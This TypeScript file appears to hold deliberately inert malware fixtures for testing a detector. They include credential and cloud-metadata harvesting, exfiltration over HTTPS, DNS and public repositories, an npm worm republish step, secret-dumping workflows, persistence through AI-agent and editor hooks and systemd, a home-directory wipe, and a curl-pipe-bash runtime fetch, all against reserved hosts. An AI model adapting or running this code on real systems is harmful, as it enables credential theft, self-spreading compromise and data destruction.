/**
 * Pieces of inert stealers and worms, in CommonJS, to stand behind the guard. They call what real ones call; hosts are reserved,
 * commands print or fail, and what would make them work (copying themselves, choosing what to take) is left out.
 */

/** Gathers the environment, facts about the host and files of credentials into `loot`. */
export const collectSecrets: string = String.raw`
const fs = require("fs");
const os = require("os");
const path = require("path");
const loot = { env: process.env, host: os.hostname(), user: os.userInfo().username, platform: process.platform, files: {} };
const wanted = [".npmrc", ".netrc", ".git-credentials", ".aws/credentials", ".config/gcloud/application_default_credentials.json", ".azure/accessTokens.json", ".ssh/id_rsa", ".ssh/id_ed25519", ".kube/config", ".docker/config.json"];
for (const name of wanted) {
  const file = path.join(os.homedir(), name);
  if (fs.existsSync(file)) { loot.files[name] = fs.readFileSync(file, "utf8"); }
}
`;

/** Asks the clouds' metadata services, under reserved names. */
export const collectCloud: string = String.raw`
async function collectCloud() {
  const token = await fetch("http://169.254.169.254.metadata.invalid/latest/api/token", { method: "PUT", headers: { "X-aws-ec2-metadata-token-ttl-seconds": "21600" } });
  const role = await fetch("http://169.254.169.254.metadata.invalid/latest/meta-data/iam/security-credentials/", { headers: { "X-aws-ec2-metadata-token": await token.text() } });
  const google = await fetch("http://metadata.google.invalid/computeMetadata/v1/instance/service-accounts/default/token", { headers: { "Metadata-Flavor": "Google" } });
  loot.cloud = { role: await role.text(), google: await google.text() };
}
`;

/** Posts `loot` as JSON over HTTPS. */
export function postLoot(host: string, path = "/upload"): string {
  return String.raw`
const https = require("https");
const body = JSON.stringify(loot);
const request = https.request({ hostname: "${host}", port: 443, path: "${path}", method: "POST", headers: { "Content-Type": "application/json", "Content-Length": Buffer.byteLength(body) } });
request.on("error", () => {});
request.write(body);
request.end();
`;
}

/** Sends `loot` as labels of names to be resolved. */
export function resolveLoot(domain: string): string {
  return String.raw`
const dns = require("dns");
const text = Buffer.from(JSON.stringify(loot)).toString("hex");
for (let at = 0; at < text.length; at += 60) { dns.resolveTxt(text.slice(at, at + 60) + "." + at + ".${domain}", () => {}); }
`;
}

/** Puts `loot` into a new public repository of whoever's token was found. */
export function uploadToRepository(description: string): string {
  return String.raw`
async function uploadToRepository(token) {
  const headers = { Authorization: "token " + token, Accept: "application/vnd.github.v3+json", "User-Agent": "inert" };
  const created = await fetch("https://api.codehost.invalid/user/repos", { method: "POST", headers: headers, body: JSON.stringify({ name: "inert-" + Math.random().toString(36).slice(2), description: "${description}", private: false }) });
  const repository = await created.json();
  const content = Buffer.from(Buffer.from(JSON.stringify(loot)).toString("base64")).toString("base64");
  await fetch("https://api.codehost.invalid/repos/" + repository.full_name + "/contents/contents.json", { method: "PUT", headers: headers, body: JSON.stringify({ message: "Add file.", content: content }) });
}
`;
}

/** The step of a worm that publishes: what makes the copy is left out, and there is no package where it would publish from. */
export const republish: string = String.raw`
async function republish(token) {
  const headers = { authorization: "Bearer " + token };
  const who = await (await fetch("https://registry.example/-/whoami", { headers: headers })).json();
  const found = await (await fetch("https://registry.example/-/v1/search?text=maintainer:" + who.username + "&size=20")).json();
  for (const entry of found.objects) {
    const folder = path.join(os.homedir(), "inert", entry.package.name);
    const manifest = { name: entry.package.name, version: entry.package.version + "-inert", scripts: { preinstall: "node setup.js" } };
    fs.mkdirSync(folder, { recursive: true });
    fs.writeFileSync(path.join(folder, "manifest.json"), JSON.stringify(manifest));
    require("child_process").execSync("npm publish --access public --registry https://registry.example", { cwd: folder, env: { NPM_TOKEN: token } });
  }
}
function npmToken() {
  const found = /_authToken=(.+)/.exec(loot.files[".npmrc"] || "");
  return process.env.NPM_TOKEN || (found && found[1]);
}
`;

/** Writes a workflow that hands a repository's secrets to a host. */
export const dropWorkflow: string = String.raw`
function dropWorkflow() {
  const folder = path.join(os.homedir(), ".github", "workflows");
  fs.mkdirSync(folder, { recursive: true });
  fs.writeFileSync(path.join(folder, "formatter.yml"), "on: push\njobs:\n  process:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo inert\n        env:\n          DATA: $" + "{{ toJSON(secrets) }}\n");
}
`;

/** Makes agents and editors start the code again. */
export const dropAgentHooks: string = String.raw`
function dropAgentHooks() {
  const claude = path.join(os.homedir(), ".claude");
  fs.mkdirSync(claude, { recursive: true });
  fs.writeFileSync(path.join(claude, "settings.json"), JSON.stringify({ hooks: { SessionStart: [{ matcher: "*", hooks: [{ type: "command", command: "echo inert" }] }] } }));
  const editor = path.join(os.homedir(), ".vscode");
  fs.mkdirSync(editor, { recursive: true });
  fs.writeFileSync(path.join(editor, "tasks.json"), JSON.stringify({ version: "2.0.0", tasks: [{ label: "inert", type: "shell", command: "echo inert", runOptions: { runOn: "folderOpen" } }] }));
}
`;

/** A user's service under systemd and a launch agent that start again what would watch a token. */
export function persistAs(name: string): string {
  return String.raw`
function persist() {
  const units = path.join(os.homedir(), ".config", "systemd", "user");
  fs.mkdirSync(units, { recursive: true });
  fs.writeFileSync(path.join(units, "${name}.service"), "[Unit]\nDescription=${name}\n[Service]\nExecStart=/bin/echo inert\nRestart=always\n[Install]\nWantedBy=default.target\n");
  const agents = path.join(os.homedir(), "Library", "LaunchAgents");
  fs.mkdirSync(agents, { recursive: true });
  fs.writeFileSync(path.join(agents, "com.user.${name}.plist"), "<plist><dict><key>RunAtLoad</key><true/></dict></plist>");
  require("child_process").execSync("systemctl --user enable --now ${name}.service || true", { stdio: "ignore" });
}
`;
}

/** Deletes the home folder, where the shell is told of a home that does not exist. */
export const wipeHome: string = String.raw`
function wipeHome() {
  const nowhere = { HOME: "/nonexistent/inert", USERPROFILE: "Z:\\nonexistent\\inert" };
  if (process.platform === "win32") require("child_process").execSync("del /F /Q /S \"%USERPROFILE%\\*\"", { env: nowhere });
  else require("child_process").execSync("rm -rf \"$HOME\"/* \"$HOME\"/.[a-z]*", { env: nowhere });
}
`;

/** Fetches the Bun runtime and starts a file of the package with it. As a script of its own, behind the guard. */
export function bunBootstrap(file: string): string {
  return String.raw`
const { execSync, spawn } = require("child_process");
const fs = require("fs");
const os = require("os");
const path = require("path");

function isBunOnPath() {
  try {
    execSync(process.platform === "win32" ? "where bun" : "which bun", { stdio: "ignore" });
    return true;
  } catch {
    return false;
  }
}

async function downloadAndSetupBun() {
  const command = process.platform === "win32" ? "powershell -c \"irm bun.invalid/install.ps1|iex\"" : "curl -fsSL https://bun.invalid/install | bash";
  execSync(command, { stdio: "ignore", env: { ...process.env } });
  return path.join(os.homedir(), ".bun", "bin", process.platform === "win32" ? "bun.exe" : "bun");
}

async function main() {
  const bun = isBunOnPath() ? "bun" : await downloadAndSetupBun();
  const script = path.join(__dirname, "${file}");
  if (!fs.existsSync(script)) process.exit(0);
  const child = spawn(bun, [script], { stdio: "ignore", detached: true });
  child.unref();
}

main().catch(() => process.exit(0));
`;
}
